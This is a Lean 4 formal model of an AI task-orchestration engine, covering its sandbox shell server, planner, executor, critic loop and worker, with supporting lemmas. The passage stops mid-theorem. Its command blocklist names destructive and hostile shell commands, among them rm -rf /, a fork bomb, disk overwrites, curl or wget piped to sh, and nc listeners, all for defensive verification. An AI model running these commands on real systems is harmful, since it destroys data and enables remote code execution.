import Mathlib

/-
Verification of the titan task-orchestration engine.

This file gives a shallow embedding, in Lean 4, of the parts of the
repository that the checked claims are about:

* `docker/sandbox-servers/shell-server.js` — the in-sandbox shell service
  (command blocklist and the `/execute` handler);
* `src/core/sandbox/sandbox-manager.service.ts` — the sandbox lookup
  table, `destroy`, and the RPC facades (`executeShell`, `readFile`,
  `writeFile`, `listDirectory`, `executeBrowser`);
* `src/core/agent/planner.agent.ts` — `generatePlan`'s post-parse
  normalisation and validation;
* `src/core/agent/executor.agent.ts` — `executeStep`;
* `src/core/agent/critic.agent.ts` — `generateCorrection`'s defaulting;
* `src/core/agent/orchestrator.service.ts` — `run`, the step loop with
  critic splicing and the final-status decision;
* `src/infrastructure/queue/task.worker.ts` — `processTask`.

External effects (the language model, the container runtime, tool
handlers, HTTP transport) are modelled as oracles supplied to the
functions; database writes (`updateTaskPlan`, `updateStep`,
`addTaskEvent`, `updateTaskStatus`) are modelled as explicit pure state.
Event payloads are elided: an event is represented by its type tag, the
string passed to `addTaskEvent`.
-/

namespace Titan

/-! ## Shell server (docker/sandbox-servers/shell-server.js)

The blocklist is a list of JavaScript regexes tested with `.test` (an
unanchored search).  Each regex used in `COMMAND_BLOCKLIST` is built
from literals, `\s+`, `\s*`, `.*` (which does not match a newline), a
single `\s`, and a character class; alternations such as
`(\/dev\/sda|\/dev\/hda)` are expanded into one pattern per branch. -/

/-- One token of a blocklist pattern. -/
inductive Tok
  | lit (s : String)
  | ws1
  | wsPlus
  | wsStar
  | anyStar
  | charIn (s : String)
deriving DecidableEq, Repr

/-- Whitespace, as matched by `\s` on the commands at issue. -/
def isWs (c : Char) : Bool :=
  c = ' ' || c = '\t' || c = '\n' || c = '\r'

/-- Match a literal against the front of the input, returning the rest. -/
def litMatch : List Char → List Char → Option (List Char)
  | [], cs => some cs
  | _ :: _, [] => none
  | l :: ls, c :: cs => if l = c then litMatch ls cs else none

/-- Anchored pattern match with explicit fuel.  Every recursive call
strictly decreases `toks.length + cs.length`, so fuel
`toks.length + cs.length + 1` always suffices; the fuel only serves to
make the definition structurally recursive. -/
def matchToksF : Nat → List Tok → List Char → Bool
  | 0, _, _ => false
  | _, [], _ => true
  | f + 1, Tok.lit s :: ts, cs =>
    match litMatch s.toList cs with
    | none => false
    | some rest => matchToksF f ts rest
  | f + 1, Tok.ws1 :: ts, cs =>
    match cs with
    | [] => false
    | c :: rest => isWs c && matchToksF f ts rest
  | f + 1, Tok.wsPlus :: ts, cs =>
    match cs with
    | [] => false
    | c :: rest =>
      isWs c && (matchToksF f ts rest || matchToksF f (Tok.wsPlus :: ts) rest)
  | f + 1, Tok.wsStar :: ts, cs =>
    matchToksF f ts cs ||
      (match cs with
       | [] => false
       | c :: rest => isWs c && matchToksF f (Tok.wsStar :: ts) rest)
  | f + 1, Tok.anyStar :: ts, cs =>
    matchToksF f ts cs ||
      (match cs with
       | [] => false
       | c :: rest => c ≠ '\n' && matchToksF f (Tok.anyStar :: ts) rest)
  | f + 1, Tok.charIn s :: ts, cs =>
    match cs with
    | [] => false
    | c :: rest => s.toList.contains c && matchToksF f ts rest

/-- Anchored match of a pattern at the start of `cs`. -/
def matchToks (ts : List Tok) (cs : List Char) : Bool :=
  matchToksF (ts.length + cs.length + 1) ts cs

/-- Unanchored search, like JavaScript `RegExp.test`. -/
def regexTest (p : List Tok) : List Char → Bool
  | [] => matchToks p []
  | c :: rest => matchToks p (c :: rest) || regexTest p rest

/-- `COMMAND_BLOCKLIST` from shell-server.js, one entry per regex, with
the two alternations expanded into one pattern per branch. -/
def COMMAND_BLOCKLIST : List (List Tok) := [
  [Tok.lit "sudo", Tok.ws1],
  [Tok.lit "rm", Tok.wsPlus, Tok.lit "-rf", Tok.wsPlus, Tok.lit "/"],
  [Tok.lit "rm", Tok.wsPlus, Tok.lit "-rf", Tok.wsPlus, Tok.lit "*"],
  [Tok.lit ":()\x7b", Tok.wsStar, Tok.lit ":|:&", Tok.wsStar, Tok.lit "\x7d;:"],
  [Tok.lit "mkfs"],
  [Tok.lit "dd", Tok.wsPlus, Tok.lit "if="],
  [Tok.lit "shutdown"],
  [Tok.lit "reboot"],
  [Tok.lit "halt"],
  [Tok.lit "poweroff"],
  [Tok.lit "init", Tok.wsPlus, Tok.charIn "0123456"],
  [Tok.lit ">/dev/sda"],
  [Tok.lit ">/dev/hda"],
  [Tok.lit "mv", Tok.wsPlus, Tok.anyStar, Tok.lit "/dev/null"],
  [Tok.lit "mv", Tok.wsPlus, Tok.anyStar, Tok.lit "/dev/zero"],
  [Tok.lit "mv", Tok.wsPlus, Tok.anyStar, Tok.lit "/dev/random"],
  [Tok.lit "chmod", Tok.wsPlus, Tok.lit "-R", Tok.wsPlus, Tok.lit "777", Tok.wsPlus, Tok.lit "/"],
  [Tok.lit "chown", Tok.wsPlus, Tok.lit "-R"],
  [Tok.lit "wget", Tok.anyStar, Tok.lit "|", Tok.wsStar, Tok.lit "sh"],
  [Tok.lit "curl", Tok.anyStar, Tok.lit "|", Tok.wsStar, Tok.lit "sh"],
  [Tok.lit "nc", Tok.wsPlus, Tok.lit "-l"],
  [Tok.lit "nohup", Tok.anyStar, Tok.lit "&"]]

/-- `isCommandBlocked` from shell-server.js. -/
def isCommandBlocked (command : String) : Bool :=
  COMMAND_BLOCKLIST.any (fun p => regexTest p command.toList)

/-- Response sent by the `/execute` handler. -/
structure ShellResponse where
  statusCode : Nat
  success : Bool
  error : Option String
  exitCode : Option Int
  stdout : Option String
  stderr : Option String
deriving DecidableEq, Repr

/-- Outcome of `execAsync` inside the shell server (oracle). -/
inductive ExecOutcome
  | ok (stdout stderr : String)
  | killed (stdout stderr : String)
  | fail (code : Int) (stdout stderr msg : String)

/-- Output truncation from the `/execute` handler (10 000-char cap). -/
def truncateOutput (s : String) : String :=
  if s.length > 10000 then s.take 10000 ++ "\n... (output truncated)" else s

/-- The `/execute` handler of shell-server.js.  The second component of
the result records whether a process was spawned for the command
(`execAsync` reached). -/
def handleExecute (command : Option String) (runner : String → ExecOutcome) :
    ShellResponse × Bool :=
  match command with
  | none =>
    (⟨400, false, some "Command is required and must be a string",
      none, none, none⟩, false)
  | some cmd =>
    if isCommandBlocked cmd then
      (⟨403, false, some "Command blocked for security reasons",
        some 1, some "", some "This command is not allowed"⟩, false)
    else
      match runner cmd with
      | ExecOutcome.ok out err =>
        (⟨200, true, none, some 0, some (truncateOutput out),
          some (truncateOutput err)⟩, true)
      | ExecOutcome.killed out err =>
        (⟨408, false, some "Command execution timed out", some (-1),
          some out, some err⟩, true)
      | ExecOutcome.fail code out err msg =>
        (⟨200, false, some msg, some code, some out, some err⟩, true)

/-! ## Sandbox manager (src/core/sandbox/sandbox-manager.service.ts)

The manager's `sandboxes : Map<string, Sandbox>` is modelled as an
association list with distinct keys not assumed; `Map.get` is the first
match.  Container-runtime calls (`docker stop`, `docker rm`) and the
HTTP transport of the facades are oracles. -/

/-- The recorded `Sandbox` (fields not consulted by the claims elided). -/
structure Sandbox where
  containerId : String
deriving DecidableEq, Repr

/-- The manager's lookup table. -/
def SandboxTable := List (String × Sandbox)

/-- `this.sandboxes.get(id)`. -/
def SandboxTable.get : SandboxTable → String → Option Sandbox
  | [], _ => none
  | (k, v) :: rest, id => if k = id then some v else SandboxTable.get rest id

/-- `this.sandboxes.delete(id)` (removes the first binding). -/
def SandboxTable.delete : SandboxTable → String → SandboxTable
  | [], _ => []
  | (k, v) :: rest, id =>
    if k = id then rest else (k, v) :: SandboxTable.delete rest id

/-- Observable outcome of `destroy`. -/
inductive DestroyOutcome
  | warned      -- sandbox not in the table: warning, normal return
  | destroyed   -- stop and rm succeeded, entry deleted
  | threw       -- a container call failed; the error is re-thrown
deriving DecidableEq, Repr

/-- `SandboxManagerService.destroy`.  `stopOk` / `rmOk` are the outcomes
of `docker stop` / `docker rm`.  Per the source, the table entry is
deleted only after both container calls succeed; on failure the error
is re-thrown and the entry is left in place. -/
def destroy (table : SandboxTable) (id : String) (stopOk rmOk : Bool) :
    SandboxTable × DestroyOutcome :=
  match table.get id with
  | none => (table, DestroyOutcome.warned)
  | some _ =>
    if stopOk then
      if rmOk then (table.delete id, DestroyOutcome.destroyed)
      else (table, DestroyOutcome.threw)
    else (table, DestroyOutcome.threw)

/-- Outcome of a facade's `curl` + `JSON.parse` round trip (oracle):
either a parsed response object or a thrown transport/parse error. -/
inductive Transport (α : Type)
  | parsed (a : α)
  | throws (msg : String)

/-- Parsed response of the shell facade. -/
structure ShellResult where
  success : Bool
  exitCode : Int
  stdout : String
  stderr : String
  error : Option String
deriving DecidableEq, Repr

/-- Parsed response of the file facades. -/
structure FileResult where
  success : Bool
  content : Option String
  error : Option String
deriving DecidableEq, Repr

/-- Result of the browser facade. -/
structure BrowserResult where
  success : Bool
  error : Option String
deriving DecidableEq, Repr

/-- `SandboxManagerService.executeShell`.  An unknown sandbox throws
(`Except.error`); transport and parse failures on a known sandbox are
returned as a `success := false` result. -/
def executeShell (table : SandboxTable) (id : String) (t : Transport ShellResult) :
    Except String ShellResult :=
  match table.get id with
  | none => Except.error ("Sandbox not found: " ++ id)
  | some _ =>
    match t with
    | Transport.parsed r => Except.ok r
    | Transport.throws m => Except.ok ⟨false, -1, "", m, some m⟩

/-- `SandboxManagerService.readFile`. -/
def readFile (table : SandboxTable) (id : String) (t : Transport FileResult) :
    Except String FileResult :=
  match table.get id with
  | none => Except.error ("Sandbox not found: " ++ id)
  | some _ =>
    match t with
    | Transport.parsed r => Except.ok r
    | Transport.throws m => Except.ok ⟨false, none, some m⟩

/-- `SandboxManagerService.writeFile`. -/
def writeFile (table : SandboxTable) (id : String) (t : Transport FileResult) :
    Except String FileResult :=
  match table.get id with
  | none => Except.error ("Sandbox not found: " ++ id)
  | some _ =>
    match t with
    | Transport.parsed r => Except.ok r
    | Transport.throws m => Except.ok ⟨false, none, some m⟩

/-- `SandboxManagerService.listDirectory`. -/
def listDirectory (table : SandboxTable) (id : String) (t : Transport FileResult) :
    Except String FileResult :=
  match table.get id with
  | none => Except.error ("Sandbox not found: " ++ id)
  | some _ =>
    match t with
    | Transport.parsed r => Except.ok r
    | Transport.throws m => Except.ok ⟨false, none, some m⟩

/-- `SandboxManagerService.executeBrowser`.  A parsed response with
`success = false` is normalised to `error || 'Browser action failed'`. -/
def executeBrowser (table : SandboxTable) (id : String) (t : Transport BrowserResult) :
    Except String BrowserResult :=
  match table.get id with
  | none => Except.error ("Sandbox not found: " ++ id)
  | some _ =>
    match t with
    | Transport.parsed r =>
      if r.success then Except.ok ⟨true, none⟩
      else Except.ok ⟨false, some (r.error.getD "Browser action failed")⟩
    | Transport.throws m => Except.ok ⟨false, some m⟩

/-! ## Steps and the executor (src/models/task.model.ts, executor.agent.ts) -/

/-- `Step.status` values. -/
inductive StepStatus
  | pending | running | completed | failed
deriving DecidableEq, Repr

/-- `ToolResult` (metadata and artifacts elided). -/
structure ToolResult where
  success : Bool
  output : String
  error : Option String
deriving DecidableEq, Repr

/-- A plan `Step` after planner/critic defaulting: `required` is the
boolean value of `step.required !== false`; the argument bag is passed
opaquely to the tool handler and is elided (the handler is an oracle). -/
structure Step where
  id : String
  description : String
  tool : String
  status : StepStatus
  result : Option ToolResult
  required : Bool
deriving DecidableEq, Repr

/-- Behaviour of `tool.run(step.arguments, context)` for one invocation
(oracle): the handler either throws or returns a `ToolResult`. -/
inductive HandlerOutcome
  | throws (msg : String)
  | returns (r : ToolResult)

/-- `ExecutorAgent.executeStep`.  The registry is the set of registered
tool names.  The function is total: every outcome, including an unknown
tool and a handler exception, is returned as a step record. -/
def executeStep (registry : List String) (step : Step) (h : HandlerOutcome) : Step :=
  if registry.contains step.tool then
    match h with
    | HandlerOutcome.returns r =>
      { step with
        status := if r.success then StepStatus.completed else StepStatus.failed,
        result := some r }
    | HandlerOutcome.throws m =>
      { step with
        status := StepStatus.failed,
        result := some ⟨false, "", some m⟩ }
  else
    { step with
      status := StepStatus.failed,
      result := some ⟨false, "", some ("Tool not found: " ++ step.tool)⟩ }

/-! ## Planner (src/core/agent/planner.agent.ts)

`generatePlan` sends one prompt, strips Markdown fences, parses JSON,
wraps a single object into an array, validates each step and sets the
defaults.  We model the pipeline from the parsed JSON value on: a raw
step carries the truthiness-relevant content of the parsed fields (a
missing or empty-string field is falsy, as in `!step.id`). -/

/-- A step object as parsed from the model's JSON. -/
structure RawStep where
  id : String
  tool : String
  description : String
  hasArguments : Bool
  required : Option Bool
deriving DecidableEq, Repr

/-- A parsed planner response: a JSON array of step objects, or a single
object (which the source wraps into a one-element array). -/
inductive ParsedPlan
  | arr (steps : List RawStep)
  | single (step : RawStep)

/-- The array the source works on after the single-object wrapping. -/
def ParsedPlan.toList : ParsedPlan → List RawStep
  | ParsedPlan.arr l => l
  | ParsedPlan.single s => [s]

/-- Validation of one raw step, returning the error message thrown, if
any (field presence, then registry membership). -/
def validateRaw (registry : List String) (r : RawStep) : Option String :=
  if r.id = "" ∨ r.tool = "" ∨ r.description = "" ∨ ¬ r.hasArguments then
    some "Invalid step structure"
  else if ¬ registry.contains r.tool then some ("Unknown tool: " ++ r.tool)
  else none

/-- Defaulting performed by the planner on a validated step:
`status = 'pending'`, `required = step.required !== false`. -/
def mkStep (r : RawStep) : Step :=
  { id := r.id, description := r.description, tool := r.tool,
    status := StepStatus.pending, result := none,
    required := r.required ≠ some false }

/-- `PlannerAgent.generatePlan` from the parsed response on.  Errors are
wrapped as `Plan generation failed: …` by the surrounding catch. -/
def generatePlan (registry : List String) (parsed : ParsedPlan) :
    Except String (List Step) :=
  match parsed.toList.findSome? (validateRaw registry) with
  | some e => Except.error ("Plan generation failed: " ++ e)
  | none => Except.ok (parsed.toList.map mkStep)

/-- `CriticAgent.generateCorrection` defaulting on each parsed
corrective step: `status = 'pending'`, `required = required !== false`.
No field or registry validation is performed on corrective steps. -/
def applyCorrectionDefaults (l : List RawStep) : List Step :=
  l.map mkStep

/-! ## Orchestrator (src/core/agent/orchestrator.service.ts)

`run` drives the step loop.  The database task record is modelled by
`dbPlan` (the stored plan) and `events` (the appended event tags);
every plan write (`updateTaskPlan`, `updateStep`) is also recorded in
`snapshots`.  The in-memory `currentPlan` is a copy of the planner's
plan: the source never writes executed statuses back into it
(`executeStep` returns a fresh object), so its steps stay `pending` and
a correction splice persists that pending copy.

The critic, the corrective plans and the tool handlers are oracles
indexed by the number of previously executed steps.  The loop can grow
`currentPlan` at each splice, so it is driven by fuel; `none` means the
fuel was exhausted (a model artifact, not a behaviour of the source). -/

/-- Critic verdict (`issues` / `suggestions` payloads elided).
`CriticAgent.evaluate` never throws: its catch returns the optimistic
default, so the oracle directly supplies the returned evaluation. -/
structure CriticEval where
  isOnTrack : Bool
  confidence : ℚ
deriving DecidableEq

/-- Oracles for one orchestration: the `n`-th executed step's handler
outcome, critic verdict and corrective plan. -/
structure OrchOracle where
  handler : Nat → HandlerOutcome
  critic : Nat → CriticEval
  corrections : Nat → List Step

/-- Orchestrator configuration (`ENABLE_CRITIC`,
`CRITIC_CONFIDENCE_THRESHOLD`) plus the registered tool names. -/
structure OrchConfig where
  enableCritic : Bool
  criticConfidenceThreshold : ℚ
  registry : List String

/-- State of the step loop. -/
structure LoopState where
  currentPlan : List Step
  i : Nat           -- loop index
  k : Nat           -- number of executed steps (oracle index)
  dbPlan : List Step
  events : List String
  snapshots : List (List Step)
  criticCalls : Nat

/-- `TasksService.updateStep`: replace the first stored step whose id
matches with the executed step (`{...plan[idx], ...executedStep}`
overwrites every field).  `none` models the `NotFoundException`. -/
def updateStepDb : List Step → String → Step → Option (List Step)
  | [], _, _ => none
  | s :: rest, sid, ex =>
    if s.id = sid then some (ex :: rest)
    else (updateStepDb rest sid ex).map (fun l => s :: l)

/-- Result of one iteration of the step loop. -/
inductive LoopRes
  | cont (st : LoopState)   -- proceed to the next index
  | stop (st : LoopState)   -- `break` after a required failure
  | exn (st : LoopState)    -- `updateStep` threw

/-- Phase 2.5 of the loop body: when the critic is enabled, call
`criticAgent.evaluate`; when the verdict is off-track with confidence
at or above the threshold, append `critic_evaluation`, call
`generateCorrection`, and when corrective steps come back splice them
in right after the current index, persist the revised plan, and append
`correction_applied`.  (`s.i` and `s.k` are unchanged from the loop
entry.) -/
def criticPhase (cfg : OrchConfig) (oracle : OrchOracle) (s : LoopState) : LoopState :=
  if cfg.enableCritic then
    let ev := oracle.critic s.k
    let s1 := { s with criticCalls := s.criticCalls + 1 }
    if ¬ ev.isOnTrack ∧ cfg.criticConfidenceThreshold ≤ ev.confidence then
      let s2 := { s1 with events := s1.events ++ ["critic_evaluation"] }
      let corrs := oracle.corrections s.k
      if corrs.isEmpty then s2
      else
        let newPlan := s2.currentPlan.take (s.i + 1) ++ corrs ++ s2.currentPlan.drop (s.i + 1)
        { s2 with
          currentPlan := newPlan,
          dbPlan := newPlan,
          snapshots := s2.snapshots ++ [newPlan],
          events := s2.events ++ ["correction_applied"] }
    else s1
  else s

/-- One iteration of the `for` loop body of `OrchestratorService.run`,
for the step at index `st.i`: append `step_started`, execute, persist
the executed step (`updateStep`), append `step_completed`, run the
critic phase, then break with `execution_stopped` if the executed step
failed and `step.required !== false`. -/
def loopIter (cfg : OrchConfig) (oracle : OrchOracle) (st : LoopState)
    (step : Step) : LoopRes :=
  let executed := executeStep cfg.registry step (oracle.handler st.k)
  match updateStepDb st.dbPlan step.id executed with
  | none => LoopRes.exn { st with events := st.events ++ ["step_started"] }
  | some db1 =>
    let st2 := criticPhase cfg oracle
      { st with
        events := st.events ++ ["step_started", "step_completed"],
        dbPlan := db1,
        snapshots := st.snapshots ++ [db1] }
    if executed.status = StepStatus.failed ∧ step.required then
      LoopRes.stop { st2 with events := st2.events ++ ["execution_stopped"] }
    else
      LoopRes.cont { st2 with i := st2.i + 1, k := st2.k + 1 }

/-- The step loop: iterate while `i < currentPlan.length`.  The second
component is true when the loop terminated by an exception. -/
def orchLoop (cfg : OrchConfig) (oracle : OrchOracle) :
    Nat → LoopState → Option (LoopState × Bool)
  | 0, _ => none
  | fuel + 1, st =>
    match st.currentPlan[st.i]? with
    | none => some (st, false)
    | some step =>
      match loopIter cfg oracle st step with
      | LoopRes.exn st2 => some (st2, true)
      | LoopRes.stop st2 => some (st2, false)
      | LoopRes.cont st2 => orchLoop cfg oracle fuel st2

/-- Outcome of `PlannerAgent.generatePlan` as seen by the orchestrator
(oracle): the validated plan, or a thrown planning error. -/
inductive PlannerOutcome
  | throws (msg : String)
  | returns (plan : List Step)

/-- Result of `OrchestratorService.run`: the appended events, the final
stored plan, every stored-plan snapshot, the number of critic calls,
and whether `run` re-threw an exception. -/
structure OrchResult where
  events : List String
  dbPlan : Option (List Step)
  snapshots : List (List Step)
  criticCalls : Nat
  raised : Bool
deriving DecidableEq, Repr

/-- `OrchestratorService.run`.  Event order follows the source:
`planning_started`; store the plan; `plan_generated`;
`execution_started`; the loop; then the final-status decision
`task_succeeded` / `task_completed_with_failures` computed over the
stored plan (`task.plan?.every(s => s.status === 'completed')`).  Any
exception appends `orchestration_failed` and re-throws. -/
def orchRun (cfg : OrchConfig) (planner : PlannerOutcome) (oracle : OrchOracle)
    (fuel : Nat) : Option OrchResult :=
  match planner with
  | PlannerOutcome.throws _ =>
    some { events := ["planning_started", "orchestration_failed"],
           dbPlan := none, snapshots := [], criticCalls := 0, raised := true }
  | PlannerOutcome.returns plan =>
    let st0 : LoopState :=
      { currentPlan := plan, i := 0, k := 0, dbPlan := plan,
        events := ["planning_started", "plan_generated", "execution_started"],
        snapshots := [plan], criticCalls := 0 }
    match orchLoop cfg oracle fuel st0 with
    | none => none
    | some (st, true) =>
      some { events := st.events ++ ["orchestration_failed"],
             dbPlan := some st.dbPlan, snapshots := st.snapshots,
             criticCalls := st.criticCalls, raised := true }
    | some (st, false) =>
      let allCompleted := st.dbPlan.all (fun s => s.status = StepStatus.completed)
      some { events := st.events ++
               [if allCompleted then "task_succeeded" else "task_completed_with_failures"],
             dbPlan := some st.dbPlan, snapshots := st.snapshots,
             criticCalls := st.criticCalls, raised := false }

/-! ## Worker (src/infrastructure/queue/task.worker.ts)

`processTask` marks the task running, appends `task_started`, creates
the sandbox (appending `sandbox_created` on success), runs the
orchestrator, and sets the terminal status: `succeeded` +
`task_completed` on normal return, `failed` + `task_failed` on any
exception.  `sandboxId` is assigned before `create`, so the `finally`
block calls `sandboxManager.destroy` exactly once on every path past
the status update; destroy errors are caught and logged. -/

/-- Result of `TaskWorker.processTask`: the task's event log, its final
stored status, how many times `destroy` was invoked, and whether the
job handler re-threw. -/
structure WorkerResult where
  events : List String
  status : String
  destroyCalls : Nat
  rethrown : Bool
  dbPlan : Option (List Step)
deriving DecidableEq, Repr

/-- `TaskWorker.processTask`.  `createOk` is the outcome of
`sandboxManager.create` (oracle). -/
def processTask (createOk : Bool) (cfg : OrchConfig) (planner : PlannerOutcome)
    (oracle : OrchOracle) (fuel : Nat) : Option WorkerResult :=
  if createOk then
    match orchRun cfg planner oracle fuel with
    | none => none
    | some r =>
      if r.raised then
        some { events := ["task_started", "sandbox_created"] ++ r.events ++ ["task_failed"],
               status := "failed", destroyCalls := 1, rethrown := true,
               dbPlan := r.dbPlan }
      else
        some { events := ["task_started", "sandbox_created"] ++ r.events ++ ["task_completed"],
               status := "succeeded", destroyCalls := 1, rethrown := false,
               dbPlan := r.dbPlan }
  else
    some { events := ["task_started", "task_failed"],
           status := "failed", destroyCalls := 1, rethrown := true, dbPlan := none }

/-! ## Accessors and concrete inputs used by the theorems below -/

/-- The state carried by a loop-iteration result. -/
def LoopRes.state : LoopRes → LoopState
  | LoopRes.cont st => st
  | LoopRes.stop st => st
  | LoopRes.exn st => st

/-- Whether the iteration ended in the `updateStep` exception. -/
def LoopRes.isExn : LoopRes → Bool
  | LoopRes.exn _ => true
  | _ => false

/-- Rational literal from numerator and denominator in lowest terms
(kernel-reducible, unlike `OfScientific` literals). -/
def q (n : Int) (d : Nat) (h1 : d ≠ 0 := by decide)
    (h2 : n.natAbs.Coprime d := by decide) : ℚ := ⟨n, d, h1, h2⟩

/-- The five canonical tool names registered at startup. -/
def registry5 : List String := ["shell", "file_read", "file_write", "file_list", "browser"]

/-- A pending one-step plan entry. -/
def sampleStep : Step :=
  { id := "step-1", description := "write the file", tool := "file_write",
    status := StepStatus.pending, result := none, required := true }

/-- The same step with `required = false`. -/
def optionalStep : Step := { sampleStep with required := false }

/-- Default configuration: critic enabled, threshold `0.7`. -/
def cfgCritic : OrchConfig :=
  { enableCritic := true, criticConfidenceThreshold := q 7 10, registry := registry5 }

/-- A handler invocation that succeeds. -/
def okOutcome : HandlerOutcome := HandlerOutcome.returns ⟨true, "done", none⟩

/-- A handler invocation that fails (`success := false`). -/
def failOutcome : HandlerOutcome := HandlerOutcome.returns ⟨false, "", some "exit 1"⟩

/-- Oracle: every step succeeds, the critic always reports on-track. -/
def oracleOnTrack : OrchOracle :=
  { handler := fun _ => okOutcome,
    critic := fun _ => { isOnTrack := true, confidence := q 9 10 },
    corrections := fun _ => [] }

/-- Oracle: every step fails, the critic always reports on-track. -/
def oracleFailing : OrchOracle :=
  { handler := fun _ => failOutcome,
    critic := fun _ => { isOnTrack := true, confidence := q 9 10 },
    corrections := fun _ => [] }

/-- Oracle: steps succeed; after the first step the critic reports
off-track with confidence `0.9` and supplies one corrective step whose
id duplicates the original step's id. -/
def oracleDupCorrection : OrchOracle :=
  { handler := fun _ => okOutcome,
    critic := fun n => if n = 0 then { isOnTrack := false, confidence := q 9 10 }
                       else { isOnTrack := true, confidence := q 1 2 },
    corrections := fun _ => [{ sampleStep with description := "corrective" }] }

/-- Oracle: steps succeed; after the first step the critic reports
off-track with confidence `0.9` and supplies one corrective step with
the fresh id `correction-1`. -/
def oracleFreshCorrection : OrchOracle :=
  { handler := fun _ => okOutcome,
    critic := fun n => if n = 0 then { isOnTrack := false, confidence := q 9 10 }
                       else { isOnTrack := true, confidence := q 1 2 },
    corrections := fun n =>
      if n = 0 then [{ sampleStep with id := "correction-1", description := "corrective" }]
      else [] }

/-- A shell-server exec oracle whose processes exit cleanly. -/
def runner0 : String → ExecOutcome := fun _ => ExecOutcome.ok "" ""

/-- A one-entry sandbox table. -/
def table1 : SandboxTable := [("task-1", ⟨"c0ffee"⟩)]

/-- The event tags a loop iteration can append. -/
def iterTags : List String :=
  ["step_started", "step_completed", "critic_evaluation", "correction_applied",
   "execution_stopped"]

/-- A second pending step with a distinct id. -/
def sampleStep2 : Step :=
  { id := "step-2", description := "run the script", tool := "shell",
    status := StepStatus.pending, result := none, required := true }

/-- `sampleStep` after a successful execution. -/
def completedSample : Step :=
  { sampleStep with status := StepStatus.completed, result := some ⟨true, "done", none⟩ }

/-- The worker result of a task whose sandbox creation failed. -/
def wrCreateFail : WorkerResult :=
  { events := ["task_started", "task_failed"], status := "failed",
    destroyCalls := 1, rethrown := true, dbPlan := none }

/-- Loop state at entry of the first iteration for a one-step plan. -/
def st0ex : LoopState :=
  { currentPlan := [sampleStep], i := 0, k := 0, dbPlan := [sampleStep],
    events := ["planning_started", "plan_generated", "execution_started"],
    snapshots := [[sampleStep]], criticCalls := 0 }

/-- The orchestration result of the one-step on-track run. -/
def rSample : OrchResult :=
  { events := ["planning_started", "plan_generated", "execution_started",
               "step_started", "step_completed", "task_succeeded"],
    dbPlan := some [completedSample],
    snapshots := [[sampleStep], [completedSample]],
    criticCalls := 1, raised := false }

/-- The fresh corrective step supplied by `oracleFreshCorrection`. -/
def correctiveFresh : Step := { sampleStep with id := "correction-1", description := "corrective" }

/-- `correctiveFresh` after a successful execution. -/
def correctiveFreshDone : Step :=
  { correctiveFresh with status := StepStatus.completed, result := some ⟨true, "done", none⟩ }

/-- The orchestration result of the one-step run with one fresh
corrective step spliced in. -/
def rFresh : OrchResult :=
  { events := ["planning_started", "plan_generated", "execution_started",
               "step_started", "step_completed", "critic_evaluation", "correction_applied",
               "step_started", "step_completed", "task_completed_with_failures"],
    dbPlan := some [sampleStep, correctiveFreshDone],
    snapshots := [[sampleStep], [completedSample], [sampleStep, correctiveFresh],
                  [sampleStep, correctiveFreshDone]],
    criticCalls := 2, raised := false }

/-- The ids of the `j`-th corrective plan, as a multiset. -/
def corrIds (oracle : OrchOracle) (j : Nat) : Multiset String :=
  ((oracle.corrections j).map Step.id : List String)

/-- The ids of the first `k` corrective plans, as a multiset. -/
def sumCorrIds (oracle : OrchOracle) (k : Nat) : Multiset String :=
  ((List.range k).map (corrIds oracle)).sum

/-! ## Association-list lemmas for the sandbox table -/

theorem SandboxTable.get_none_of_not_mem_keys (t : SandboxTable) (id : String)
    (h : id ∉ t.map Prod.fst) : t.get id = none := by
  induction t with
  | nil => rfl
  | cons kv rest ih =>
    obtain ⟨k, v⟩ := kv
    simp only [List.map_cons, List.mem_cons, not_or] at h
    have hk : ¬ k = id := fun e => h.1 e.symm
    simp only [SandboxTable.get, if_neg hk]
    exact ih h.2

theorem SandboxTable.get_delete_none (t : SandboxTable) (id : String)
    (hkeys : (t.map Prod.fst).Nodup) : (t.delete id).get id = none := by
  induction t with
  | nil => rfl
  | cons kv rest ih =>
    obtain ⟨k, v⟩ := kv
    simp only [List.map_cons, List.nodup_cons] at hkeys
    by_cases hk : k = id
    · simp only [SandboxTable.delete, if_pos hk]
      exact SandboxTable.get_none_of_not_mem_keys rest id (hk ▸ hkeys.1)
    · simp only [SandboxTable.delete, if_neg hk, SandboxTable.get, if_neg hk]
      exact ih hkeys.2

/-! ## Event-log lemmas for the orchestrator loop -/

theorem count_zero_of_forall_mem {d : List String} {t : String}
    (hd : ∀ e ∈ d, e ∈ iterTags) (ht : t ∉ iterTags) : d.count t = 0 :=
  List.count_eq_zero.mpr (fun h => ht (hd t h))

theorem criticPhase_events_ext (cfg : OrchConfig) (oracle : OrchOracle) (s : LoopState) :
    ∃ d, (criticPhase cfg oracle s).events = s.events ++ d ∧ ∀ e ∈ d, e ∈ iterTags := by
  unfold criticPhase
  by_cases h1 : cfg.enableCritic
  · simp only [if_pos h1]
    by_cases h2 : ¬ (oracle.critic s.k).isOnTrack ∧
        cfg.criticConfidenceThreshold ≤ (oracle.critic s.k).confidence
    · rw [if_pos h2]
      by_cases h3 : (oracle.corrections s.k).isEmpty
      · rw [if_pos h3]
        exact ⟨["critic_evaluation"], rfl, by decide⟩
      · rw [if_neg h3]
        exact ⟨["critic_evaluation", "correction_applied"], by simp, by decide⟩
    · rw [if_neg h2]
      exact ⟨[], by simp, by simp⟩
  · simp only [if_neg h1]
    exact ⟨[], by simp, by simp⟩

theorem criticPhase_i (cfg : OrchConfig) (oracle : OrchOracle) (s : LoopState) :
    (criticPhase cfg oracle s).i = s.i := by
  unfold criticPhase
  by_cases h1 : cfg.enableCritic
  · simp only [if_pos h1]
    by_cases h2 : ¬ (oracle.critic s.k).isOnTrack ∧
        cfg.criticConfidenceThreshold ≤ (oracle.critic s.k).confidence
    · rw [if_pos h2]
      by_cases h3 : (oracle.corrections s.k).isEmpty
      · rw [if_pos h3]
      · rw [if_neg h3]
    · rw [if_neg h2]
  · simp only [if_neg h1]

theorem criticPhase_k (cfg : OrchConfig) (oracle : OrchOracle) (s : LoopState) :
    (criticPhase cfg oracle s).k = s.k := by
  unfold criticPhase
  by_cases h1 : cfg.enableCritic
  · simp only [if_pos h1]
    by_cases h2 : ¬ (oracle.critic s.k).isOnTrack ∧
        cfg.criticConfidenceThreshold ≤ (oracle.critic s.k).confidence
    · rw [if_pos h2]
      by_cases h3 : (oracle.corrections s.k).isEmpty
      · rw [if_pos h3]
      · rw [if_neg h3]
    · rw [if_neg h2]
  · simp only [if_neg h1]

theorem criticPhase_spec (cfg : OrchConfig) (oracle : OrchOracle) (s : LoopState) :
    (criticPhase cfg oracle s).criticCalls =
